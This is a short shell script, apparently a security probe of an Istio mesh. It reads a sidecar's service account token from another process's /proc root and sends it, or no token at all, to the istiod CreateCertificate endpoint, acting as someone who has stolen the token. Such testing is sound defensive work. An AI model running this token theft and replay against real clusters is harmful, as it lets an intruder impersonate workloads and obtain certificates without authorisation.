# Shows, on the node of a pod in red and green, the token of one of its sidecars to the relay of a domain, and says what
# that is answered with when it is asked for a certificate: as somebody would who has got hold of a token. Also shows the
# handshake.
#   steal.sh TOKEN-OF RELAY USER [none]
# TOKEN-OF is the pod's address in the domain whose sidecar has the token; RELAY is asked as USER, from within the pod;
# `none` leaves the token out.
for process in $(pgrep -x envoy); do
    if tr '\0' '\n' <"/proc/$process/environ" | grep -qx "INSTANCE_IP=$1"; then
        pod=$process
    fi
done
authorization="authorization: Bearer $(cat "/proc/$pod/root/var/run/secrets/tokens/istio-token")"
[ "$4" != none ] || authorization="x-authorization: none"
printf '\0\0\0\0\0' | nsenter -n -t "$pod" setpriv --reuid "$3" --regid "$3" --clear-groups \
    curl -g -k -s -S -m 5 --http2 -D - -o /dev/null --data-binary @- -H 'content-type: application/grpc' -H 'te: trailers' \
    -v -H "$authorization" "https://$2:15012/istio.v1.auth.IstioCertificateService/CreateCertificate" 2>&1
